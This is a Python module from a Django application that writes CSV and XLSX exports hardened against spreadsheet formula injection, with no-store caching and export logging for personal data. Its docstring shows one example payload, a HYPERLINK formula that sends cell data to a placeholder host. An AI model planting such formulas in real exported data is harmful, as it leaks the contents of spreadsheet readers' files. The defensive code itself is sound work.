"""Every CSV and XLSX file the application writes, and the headers of responses that carry
personal data. No export writes a spreadsheet any other way (a test walks the code for it).

**Formula injection.** A spreadsheet evaluates a cell that begins with ``=``, ``+``, ``-``,
``@``, a tab or a carriage return as a formula (OWASP "CSV injection"): a name such as
``=HYPERLINK("http://x/?"&A1)`` typed into a form would otherwise run on the reader's machine.

* CSV has no cell types, so such text is prefixed with a single quote (``'=HYPERLINK(…)``),
  the OWASP rule: spreadsheets show it as text. A *text* ``"-5"`` or ``"+51 1 234"`` gets the
  prefix too; Python numbers (``-5``, ``Decimal("-1.5")``) are written as numbers, since a
  number cannot hold a formula. The writer is defusedcsv's, which also guards ``|`` and ``%``.
* XLSX has cell types: text is always written as a text cell, never a formula (openpyxl would
  otherwise turn a ``str`` starting with ``=`` into one). Dangerous text keeps its exact value
  and gets Excel's *quote prefix* style — what Excel itself stores when a user types a leading
  apostrophe — so it stays text even when someone edits the cell. Numbers, dates and booleans
  stay typed. Characters XML cannot hold (control characters) are dropped, and text is cut
  at the 32,767 characters a cell holds.

**Personal data.** Responses that carry it are sent with ``Cache-Control: no-store`` (and
``private``, ``no-cache``) so no browser or proxy keeps a copy: exports through
:func:`table_response` with ``personal_data=True``, and every page and API answer through
:class:`liaison.core.middleware.PrivateResponsesMiddleware`. An export
of people also names a recorder (``on_export``) that writes, in each person's history, who
exported them, when, and in which file.
"""

from __future__ import annotations

import io
import re
from collections.abc import Callable, Iterable, Iterator, Sequence
from contextlib import nullcontext
from datetime import date, datetime, time
from decimal import Decimal
from numbers import Number
from typing import Any, TypeVar

from defusedcsv import csv as defused_csv
from django.db import transaction
from django.http import HttpRequest, HttpResponse
from django.utils import timezone
from django.utils.cache import add_never_cache_headers, patch_cache_control
from openpyxl import Workbook
from openpyxl.cell import WriteOnlyCell
from openpyxl.cell.cell import ILLEGAL_CHARACTERS_RE
from openpyxl.worksheet._write_only import WriteOnlyWorksheet

T = TypeVar("T")

# The first characters that make a spreadsheet read a cell as a formula (OWASP).
DANGEROUS_FIRST = ("=", "+", "-", "@", "\t", "\r")
FORMATS = ("csv", "xlsx")
CSV_CONTENT_TYPE = "text/csv; charset=utf-8"
XLSX_CONTENT_TYPE = "application/vnd.openxmlformats-officedocument.spreadsheetml.sheet"
# The longest text an Excel cell holds; a longer one makes Excel "repair" the file.
MAX_XLSX_TEXT = 32_767
# People exported are recorded in their histories this many at a time.
RECORD_BATCH = 2000


def is_dangerous(text: str) -> bool:
    return text.startswith(DANGEROUS_FIRST)


def csv_cell(value: Any) -> Any:
    """The value as a CSV cell: numbers as they are, text prefixed with ``'`` if dangerous."""
    if value is None:
        return ""
    if isinstance(value, Number):
        return value
    text = str(value)
    return "'" + text if is_dangerous(text) else text


def xlsx_cell(sheet: WriteOnlyWorksheet, value: Any) -> Any:
    """The value as an XLSX cell: typed values as they are, every text as a text cell."""
    if value is None or isinstance(value, bool | int | float | Decimal | date | time):
        if isinstance(value, datetime) and timezone.is_aware(value):
            return timezone.make_naive(value)  # Excel has no time zones: local time.
        return value
    text = ILLEGAL_CHARACTERS_RE.sub("", str(value))[:MAX_XLSX_TEXT]
    cell = WriteOnlyCell(sheet, value=text)
    cell.data_type = "s"  # never a formula ("="), nor an error value ("#N/A")
    if is_dangerous(text):
        cell.quotePrefix = True
    return cell


def _attachment(response: HttpResponse, filename: str) -> HttpResponse:
    response["Content-Disposition"] = f'attachment; filename="{filename}"'
    return response


def csv_response(
    filename: str, header: list[str], rows: Iterable[Any], row: Callable[[Any], Sequence[Any]]
) -> HttpResponse:
    response = HttpResponse(content_type=CSV_CONTENT_TYPE)
    # The byte-order mark is how Excel (Windows, any locale) knows the file is UTF-8: without
    # it "Peña Gutiérrez" opens as "PeÃ±a GutiÃ©rrez". Every CSV reader skips it.
    response.write("\ufeff")
    writer = defused_csv.writer(response)
    writer.writerow([csv_cell(name) for name in header])
    for item in rows:
        writer.writerow([csv_cell(value) for value in row(item)])
    return _attachment(response, filename)


def xlsx_response(filename: str, header: list[str], rows: Iterable[Sequence[Any]]) -> HttpResponse:
    workbook = Workbook(write_only=True)
    title = re.sub(r"[\[\]:*?/\\]", " ", filename.rsplit(".", 1)[0]).strip()[:31]
    sheet = workbook.create_sheet(title or "Export")
    sheet.freeze_panes = "A2"
    sheet.append([xlsx_cell(sheet, name) for name in header])
    for values in rows:
        sheet.append([xlsx_cell(sheet, value) for value in values])
    buffer = io.BytesIO()
    workbook.save(buffer)
    return _attachment(HttpResponse(buffer.getvalue(), content_type=XLSX_CONTENT_TYPE), filename)


def patch_no_store(response: HttpResponse) -> HttpResponse:
    """Tell browsers and proxies to keep no copy of this response."""
    add_never_cache_headers(response)  # max-age=0, no-cache, no-store, must-revalidate, private
    patch_cache_control(response, no_store=True, private=True)
    return response


def export_format(request: HttpRequest) -> str | None:
    """``"csv"`` or ``"xlsx"`` when the list is asked for as a file (``?format=``), else None."""
    fmt = request.GET.get("format", "")
    return fmt if fmt in FORMATS else None


def _recorded(
    items: Iterable[T], record: Callable[[list[T], str], None], filename: str
) -> Iterator[T]:
    batch: list[T] = []
    for item in items:
        yield item
        batch.append(item)
        if len(batch) >= RECORD_BATCH:
            record(batch, filename)
            batch = []
    if batch:
        record(batch, filename)


def table_response(
    fmt: str,
    filename_stem: str,
    header: list[str],
    rows: Iterable[Any],
    row: Callable[[Any], Sequence[Any]],
    *,
    personal_data: bool = False,
    on_export: Callable[[list[Any], str], None] | None = None,
) -> HttpResponse:
    """One list as ``<filename_stem>.csv`` or ``.xlsx``, the same columns and rows either way.

    ``personal_data`` sends it with ``Cache-Control: no-store``. ``on_export(items, filename)``
    is called with the exported items, a batch at a time, to record the export in their
    histories (it implies ``personal_data``); the file and the records are made in one
    transaction, so a failed export records nothing.
    """
    if fmt not in FORMATS:
        raise ValueError(f"Unknown export format {fmt!r}.")
    filename = f"{filename_stem}.{fmt}"
    with transaction.atomic() if on_export is not None else nullcontext():
        if on_export is not None:
            rows = _recorded(rows, on_export, filename)
        if fmt == "xlsx":
            response = xlsx_response(filename, header, (row(item) for item in rows))
        else:
            response = csv_response(filename, header, rows, row)
    if personal_data or on_export is not None:
        patch_no_store(response)
    return response
